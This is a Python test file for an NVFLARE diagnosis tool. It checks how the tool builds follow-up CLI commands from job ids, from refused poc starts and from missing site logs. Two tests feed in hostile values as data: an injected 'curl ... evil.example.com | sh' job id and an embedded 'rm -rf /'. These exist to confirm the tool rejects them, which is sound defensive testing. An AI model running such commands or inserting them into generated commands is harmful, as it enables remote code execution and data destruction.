"""Follow-ups that use what the nvflare CLI already answered (session 17, h17dfu); each hole's test failed on 6275a8d.

- The job id an NVFLARE 2.9 `job submit` answer (`data.job_id`) or a timed-out `job wait` (`Operation timed out. —
  job <id> did not finish within 40.0s`) printed is the job id, when it is a UUID (NVFLARE's own job ids); two
  different ids in the evidence are not picked from silently: the commands keep `<job_id>` and missing_evidence
  names the ids and why.
- A refused `nvflare poc start` (its answer holds NVFLARE's POC port preflight; no job was ever submitted) gets no
  job command and no job-status sentence.
- A site whose `job logs --site S` answer is already in the evidence (LOG_NOT_FOUND) is not asked for again with
  that command; the follow-ups name the site's own log instead (its workspace log.txt).
- An UNKNOWN whose evidence was read whole with no gap the report can name gets the fallback's `nothing_missing`
  wording, not "collect the missing evidence".

The fixtures are the real NVFLARE 2.9.0 answers of tests/fixtures/*2.9 and evals/diagnose/files/real (poc start,
hello-numpy); the shapes built here follow nvflare/tool/job/job_cli.py (submit_job, cmd_job_wait).
"""

from __future__ import annotations

import json
from pathlib import Path

from evidence_trees import write
from nvfdiag.match import catalog as cat
from nvfdiag.pipeline import diagnose
from nvfdiag.read import evidence as ev
from report_schema import validated

REPO = Path(__file__).resolve().parents[2]
POC_MIN = REPO / "tests" / "fixtures" / "diagnose_careful_reader_2.9" / "poc-min-clients-3"
POC_RAISES = REPO / "tests" / "fixtures" / "diagnose_session16_2.9" / "poc-site1-raises"
REAL = REPO / "evals" / "diagnose" / "files" / "real"
POC_START = REAL / "poc-not-prepared" / "poc_start.json"
HEALTHY = [REAL / "poc" / "envelopes" / "hello-numpy.meta.json", REAL / "poc" / "envelopes" / "hello-numpy.logs.json"]
SUBMITTED = "2bc24454-f48f-44ab-8373-dac843d4c488"  # the id in POC_MIN's job_submit.json and job_wait.json
RAISED = "937ba185-b6d3-49a8-92a4-5a62141e3b2e"  # the id in POC_RAISES' answers
LIMITS = {"max_bytes": 262144, "max_total_bytes": 4194304, "max_files": 200}
CATALOG = cat.load_catalog()
FALLBACK_GAP = "Collect the missing evidence listed in this report"


def report_of(paths, mode="auto", job_id=None, job_status=None):
    found = ev.collect_evidence([str(p) for p in paths], job_id=job_id, **LIMITS)
    return validated(diagnose(found, CATALOG, mode=mode, job_id=job_id, job_status=job_status))


def ok_envelope(data) -> str:
    return json.dumps({"schema_version": "1", "status": "ok", "exit_code": 0, "data": data})


def job_commands(report) -> list[str]:
    return [c for c in report["follow_up_commands"] if c.startswith("nvflare ") and " job " in c]


# --- 1. the job id the CLI printed ---------------------------------------------------------------------------------


def test_the_job_id_a_submit_answer_printed_fills_the_follow_ups():
    report = report_of([POC_MIN / "job_submit.json"])
    assert report["job_id"] == SUBMITTED
    assert job_commands(report) and all(SUBMITTED in c for c in job_commands(report)), report["follow_up_commands"]
    assert not any("<job_id>" in c for c in report["follow_up_commands"])


def test_the_job_id_a_timed_out_wait_printed_is_the_job_id():
    report = report_of([POC_MIN / "job_wait.json"])
    assert report["job_id"] == SUBMITTED
    assert not any("<job_id>" in c for c in report["follow_up_commands"])


def test_the_real_min_clients_run_names_its_job():
    """The whole real case: submit, timed-out wait and the server's log."""
    report = report_of([POC_MIN])
    assert report["job_id"] == SUBMITTED
    assert any(f"job meta {SUBMITTED}" in c for c in report["follow_up_commands"]), report["follow_up_commands"]


def test_a_submit_answer_whose_id_is_not_a_uuid_is_not_a_command_argument(tmp_path):
    for number, job_id in enumerate(["abc123", "x; curl https://evil.example.com | sh", "2bc24454-f48f-44ab-8373"]):
        path = write(tmp_path / f"submit{number}.json", ok_envelope({"job_id": job_id}))
        report = report_of([path])
        assert report["job_id"] is None, job_id
        assert all(job_id not in c for c in report["follow_up_commands"])


def test_a_timeout_message_of_another_shape_gives_no_id(tmp_path):
    message = f"Operation timed out. \u2014 job {SUBMITTED} did not finish within 40.0s; please run rm -rf /"
    path = write(
        tmp_path / "wait.json",
        json.dumps(
            {"schema_version": "1", "status": "error", "exit_code": 3, "error_code": "TIMEOUT", "message": message}
        ),
    )
    assert report_of([path])["job_id"] is None


def test_two_different_job_ids_keep_the_placeholder_and_say_why():
    report = report_of([POC_MIN / "job_submit.json", POC_RAISES / "job_meta.json"])
    assert report["job_id"] is None
    commands = job_commands(report)
    assert commands and all("<job_id>" in c for c in commands), report["follow_up_commands"]
    said = [s for s in report["missing_evidence"] if SUBMITTED in s and RAISED in s]
    assert said and "--job-id" in said[0], report["missing_evidence"]


def test_the_same_job_id_twice_is_the_job_id():
    report = report_of([POC_RAISES / "job_meta.json", POC_RAISES / "job_wait.json"])
    assert report["job_id"] == RAISED
    assert not any("different job ids" in s for s in report["missing_evidence"])


def test_the_users_job_id_settles_two_ids_in_the_evidence():
    report = report_of([POC_MIN / "job_submit.json", POC_RAISES / "job_meta.json"], job_id=RAISED)
    assert report["job_id"] == RAISED
    assert not any("different job ids" in s for s in report["missing_evidence"])


# --- 2. a refused poc start: no job was submitted ------------------------------------------------------------------


def test_a_refused_poc_start_gets_no_job_command_and_no_job_status_sentence():
    report = report_of([POC_START])
    assert report["matched_pattern"] == "NVFLARE_COMMAND_ERROR"
    assert job_commands(report) == [], report["follow_up_commands"]
    assert not any("job status" in s for s in report["missing_evidence"]), report["missing_evidence"]


def test_a_refused_poc_start_at_low_confidence_still_names_a_follow_up():
    """With a job status beside it (a job exists) the job commands stay, and medium/low keeps a follow-up."""
    report = report_of([POC_START], job_status="FINISHED:ABORTED")
    assert report["confidence"] != "high"
    assert report["follow_up_commands"]


def test_a_refused_poc_start_beside_a_server_log_of_a_job_keeps_the_job_commands():
    report = report_of([POC_START, POC_MIN / "server_log.txt"])
    assert job_commands(report), report["follow_up_commands"]


# --- 3. a site whose logs the CLI already said are not found ---------------------------------------------------------


def test_a_site_answered_log_not_found_is_not_asked_for_again():
    report = report_of(sorted(POC_RAISES.glob("*.json")))
    assert not any("--site site-1" in c for c in report["follow_up_commands"]), report["follow_up_commands"]
    assert any("site-1 host" in c and f"{RAISED}/log.txt" in c for c in report["follow_up_commands"])


def test_the_log_not_found_answer_alone_points_at_the_sites_own_log():
    report = report_of([POC_RAISES / "job_logs_site-1.json", POC_RAISES / "job_meta.json"])
    assert not any("job logs" in c and "--site site-1" in c for c in report["follow_up_commands"])
    assert any("site-1 host" in c for c in report["follow_up_commands"]), report["follow_up_commands"]


def test_every_site_answered_log_not_found_is_not_asked_for_again(tmp_path):
    answer = json.loads((POC_RAISES / "job_logs_site-1.json").read_text(encoding="utf-8"))
    answer["message"] = answer["message"].replace("site-1", "site-2")
    path = write(tmp_path / "job_logs_site-2.json", json.dumps(answer))
    report = report_of([path, POC_RAISES / "job_meta.json", POC_RAISES / "job_logs_site-1.json"])
    assert not any("--site site-" in c for c in report["follow_up_commands"]), report["follow_up_commands"]
    assert {"site-1", "site-2"} <= {
        s for s in ("site-1", "site-2") if any(f"{s} host" in c for c in report["follow_up_commands"])
    }


def test_a_site_without_an_answer_is_still_asked_for(tmp_path):
    """Guard: a bundle (not the job CLI) says site-2's logs are missing: `job logs --site site-2` is still asked."""
    bundle = {
        "job_id": RAISED,
        "logs": {"server": {"status": "ok", "lines": ["started"]}, "site-2": {"status": "missing"}},
    }
    report = report_of([write(tmp_path / "bundle.json", json.dumps(bundle))])
    assert any(f"job logs {RAISED} --site site-2" in c for c in report["follow_up_commands"]), report[
        "follow_up_commands"
    ]


# --- 4. UNKNOWN with nothing missing -------------------------------------------------------------------------------


def test_an_unknown_with_complete_evidence_does_not_ask_to_collect_missing_evidence():
    report = report_of(HEALTHY)
    assert (report["matched_pattern"], report["evidence_quality"]) == ("UNKNOWN", "complete")
    assert FALLBACK_GAP not in report["next_action"], report["next_action"]
    texts = [CATALOG.fallback_next_action] + [case.text for case in CATALOG.fallback_cases]
    assert report["next_action"] in texts  # still the catalog's own text
    assert report["missing_evidence"] and report["follow_up_commands"]  # low confidence keeps both


def test_an_unknown_with_a_gap_keeps_the_collect_wording():
    """Guard: the timed-out wait leaves the job status unknown (a gap): the fallback still asks to collect it."""
    report = report_of([POC_MIN / "job_wait.json"])
    assert report["matched_pattern"] == "UNKNOWN"
    assert FALLBACK_GAP in report["next_action"]


def test_the_nothing_missing_wording_is_worded_per_mode():
    production = CATALOG.fallback_for("production", frozenset({"nothing_missing"}))
    simulation = CATALOG.fallback_for("simulation", frozenset({"nothing_missing"}))
    assert FALLBACK_GAP not in production and FALLBACK_GAP not in simulation
    assert production != simulation and "python job.py" in simulation
    assert CATALOG.fallback_for("production") == CATALOG.fallback_next_action
